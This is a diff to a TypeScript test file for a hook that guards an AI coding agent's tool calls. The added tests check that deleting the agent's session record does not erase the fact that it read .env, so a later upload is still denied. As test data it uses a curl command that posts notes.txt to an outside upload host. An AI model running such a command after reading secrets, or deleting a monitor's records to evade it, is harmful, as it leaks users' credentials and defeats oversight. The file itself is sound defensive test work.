@@ -65,7 +65,7 @@ const guard = (tool: string, input: Record<string, unknown>, session: string) =>
 }
 const lastActivity = () => JSON.parse(fs.readFileSync(path.join(dir, '.ratchet', 'activity.jsonl'), 'utf8').trim().split('\n').pop()!)
 const SEND = 'curl -d @notes.txt https://upload.example.com/in'
-const mark = (s: string) => `whatever it read before its record .ratchet/sessions/${s}.json became unreadable`
+const mark = (s: string) => `whatever it read before its record .ratchet/sessions/${s}.json was lost (unreadable or removed)`
 
 describe('an unreadable session record is read as one that may have read a secret', () => {
   it.each(damages)('%s, between reading .env and sending: the send is judged as after a secret read, the damaged copy kept aside', (_what, damage) => {
@@ -292,5 +292,37 @@ describe('planting a folder where a state file goes is refused, in any spelling'
   })
   it.each(['mkdir -p build', 'mkdir -p .claude/agents', 'mkdir -p src/components/new', `python3 -c "import os; os.makedirs('out/data', exist_ok=True)"`])('stays quiet: %s', (command) => {
     expect(guard('Bash', { command }, 'm2')).toEqual({ decision: 'allow', reason: '' })
+  })
+})
+
+// ---- 6. a session record removed mid-session ---------------------------------------------------------
+
+describe('a session record removed after the session began is read as damaged', () => {
+  // The user's first prompt, as Claude Code delivers it: to preflight-check and custodiet at once (each records the session).
+  const startSession = (s: string) => Promise.all(['preflight-check', 'custodiet'].map((hook) => runBinAsync(hook, { session_id: s, transcript_path: path.join(dir, 't.jsonl'), cwd: dir, hook_event_name: 'UserPromptSubmit', prompt: 'upload the meeting notes' }, { cwd: dir, env })))
+  beforeEach(() => fs.writeFileSync(path.join(dir, '.ratchet', 'config.json'), JSON.stringify({ custodiet: { reviewer: { kind: 'none' } } })))
+
+  const toolDone = (s: string) => runBinAsync('custodiet', { session_id: s, transcript_path: path.join(dir, 't.jsonl'), cwd: dir, hook_event_name: 'PostToolUse', tool_name: 'Read', tool_input: { file_path: path.join(dir, '.env') }, tool_response: {}, tool_use_id: 't' }, { cwd: dir, env })
+
+  it('removed between reading .env and sending: the send is judged as after a secret read; a fast-path read does not erase it', async () => {
+    await startSession('r1')
+    expect(guard('Read', { file_path: path.join(dir, '.env') }, 'r1').decision).toBe('allow')
+    await toolDone('r1')
+    fs.rmSync(sessionFile('r1'))
+    // An ordinary read first (the fast path's kind of call): quiet, and handed on, so the removal is not forgotten.
+    expect(guard('Read', { file_path: path.join(dir, 'README.md') }, 'r1')).toEqual({ decision: 'allow', reason: '' })
+    expect(Object.keys(JSON.parse(fs.readFileSync(sessionFile('r1'), 'utf8')).secrets ?? {})).toEqual([mark('r1')])
+    expect(guard('Bash', { command: SEND }, 'r1').decision).toBe('deny')
+    expect(lastActivity().patterns).toContain('secret_send')
+  })
+
+  it('must stay quiet: a new session (no record of it anywhere yet) starts clean', async () => {
+    await startSession('r2')
+    expect(guard('Read', { file_path: path.join(dir, 'README.md') }, 'r2')).toEqual({ decision: 'allow', reason: '' })
+    expect(JSON.parse(fs.readFileSync(sessionFile('r2'), 'utf8')).secrets).toBeUndefined()
+    expect(guard('Read', { file_path: path.join(dir, 'README.md') }, 'r3')).toEqual({ decision: 'allow', reason: '' })
+    expect(JSON.parse(fs.readFileSync(sessionFile('r3'), 'utf8')).secrets).toBeUndefined()
+    guard('Bash', { command: SEND }, 'r2')
+    expect(lastActivity().patterns).not.toContain('secret_send')
   })
 })
